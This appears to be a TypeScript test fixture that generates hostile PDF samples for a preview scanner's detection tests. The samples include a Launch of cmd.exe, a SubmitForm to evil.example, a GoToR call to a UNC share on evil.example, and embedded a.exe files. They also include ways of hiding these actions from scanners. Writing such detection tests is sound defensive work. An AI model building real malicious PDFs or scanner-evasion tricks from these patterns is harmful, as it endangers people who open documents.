import { deflateSync } from 'node:zlib'
import { objectStream, samplePdf } from '../../src/platform/preview/sample-files.ts'
import type { Ending, HostileFile } from './hostile-file.ts'

/** Actions and parts that run, open, send or fetch something (ISO 32000-2, 12.6.4, 12.7.6, 13). */
const actions: Record<string, string> = {
  JavaScript: '<< /S /JavaScript /JS (app.alert(1)) >>',
  Launch: '<< /S /Launch /F (cmd.exe) >>',
  SubmitForm: '<< /S /SubmitForm /F (http://evil.example/take) >>',
  ImportData: '<< /S /ImportData /F (a.fdf) >>',
  GoToE: '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>',
  GoToR: '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>',
  Rendition: '<< /S /Rendition /OP 0 /JS (app.alert(1)) >>',
  RichMedia: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>',
  Movie: '<< /S /Movie /Operation /Play >>',
  Sound: '<< /S /Sound /Sound 9 0 R >>',
  XFA: '<< /XFA [(template) 9 0 R] >>',
}

/** The same name with one letter written as a number. */
const escaped = (text: string, name: string) => {
  const letter = name.charCodeAt(1).toString(16)
  return text.replaceAll(`/${name}`, `/${name[0]}#${letter}${name.slice(2)}`)
}

const longDictionary = (text: string) => objectStream(text).replace('/Type /ObjStm', `/Type /ObjStm ${'/Filler (nothing at all) '.repeat(200)}`)
const untyped = (text: string) => objectStream(text).replace('/Type /ObjStm ', '')
const hiddenDictionary = (text: string) => objectStream(text).replace('/Filter', '/Filler (endobj 9 0 obj << >>) /Filter')
const twice = (text: string) => {
  const packed = deflateSync(deflateSync(Buffer.from(`90 0 ${text}`, 'latin1'))).toString('latin1')
  return `<< /Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode] /Length ${packed.length} >>\nstream\n${packed}\nendstream`
}

const hidings: readonly [how: string, ends: (usual: Ending) => Ending, pdf: (action: string, name: string) => Buffer][] = [
  ['in the open', (usual) => usual, (action) => samplePdf({ catalog: `/OpenAction ${action}` })],
  ['with a letter as a number', (usual) => usual, (action, name) => samplePdf({ catalog: `/OpenAction ${escaped(action, name)}` })],
  ['in an object stream', (usual) => usual, (action) => samplePdf({ objects: [objectStream(action)] })],
  ['in an object stream that does not say so', (usual) => usual, (action) => samplePdf({ objects: [untyped(action)] })],
  ['in an object stream with a long dictionary', (usual) => usual, (action) => samplePdf({ objects: [longDictionary(action)] })],
  ['in an object stream behind a false beginning', (usual) => usual, (action) => samplePdf({ objects: [hiddenDictionary(action)] })],
  ['in an object stream whose bytes are differences', () => 'broken', (action) => samplePdf({ objects: [objectStream(action).replace('/Filter', '/DecodeParms << /Predictor 12 >> /Filter')] })],
  ['in an object stream folded twice', () => 'broken', (action) => samplePdf({ objects: [twice(action)] })],
]

const scripted = (what: string, bytes: () => Buffer): HostileFile => ({ what: `PDF that acts: ${what}`, fileName: 'form.pdf', bytes, ends: 'scripted-pdf' })
const carrying = (what: string, bytes: () => Buffer): HostileFile => ({ what: `PDF with files: ${what}`, fileName: 'papers.pdf', bytes, ends: 'pdf-with-files' })

const attached = '<< /Length 5 >>\nstream\nhello\nendstream'

export const activeFiles = (): HostileFile[] => [
  ...Object.entries(actions).flatMap(([name, action]) =>
    hidings.map(([how, ends, pdf]): HostileFile => ({
      what: `PDF that acts: ${name} ${how}`,
      fileName: 'form.pdf',
      bytes: () => pdf(action, name),
      ends: ends('scripted-pdf'),
    })),
  ),
  scripted('a script when a page is opened', () => samplePdf({ objects: ['<< /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> >>'] })),
  scripted('a script under a name', () => samplePdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] })),
  scripted('a script in a stream', () => samplePdf({ catalog: '/OpenAction << /S /JavaScript /JS 4 0 R >>', objects: ['<< /Length 12 >>\nstream\napp.alert(1)\nendstream'] })),
  scripted('a script behind a link', () => samplePdf({ objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (app.alert(1)) >> >>'] })),
  scripted('a script behind the end', () => Buffer.concat([samplePdf(), Buffer.from('9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%%EOF')])),
  carrying('a list of files', () => samplePdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', attached] })),
  carrying('a file pinned to a page', () => samplePdf({ objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>', '<< /F (a.exe) /EF << /F 6 0 R >> >>', attached] })),
  carrying('a file that belongs to it', () => samplePdf({ catalog: '/AF [4 0 R]', objects: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', attached] })),
  carrying('a file that belongs to it, by letters as numbers', () => samplePdf({ catalog: '/AF [4 0 R]', objects: ['<< /F (a.exe) /#45#46 << /F 5 0 R >> >>', attached] })),
  carrying('a file that belongs to it, in an object stream', () => samplePdf({ catalog: '/AF [90 0 R]', objects: [objectStream('<< /F (a.exe) /EF << /F 5 0 R >> >>')] })),
  carrying('a folder of files', () => samplePdf({ catalog: '/Collection << /View /T >>' })),
  carrying('the stream of one', () => samplePdf({ objects: ['<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream'] })),
]
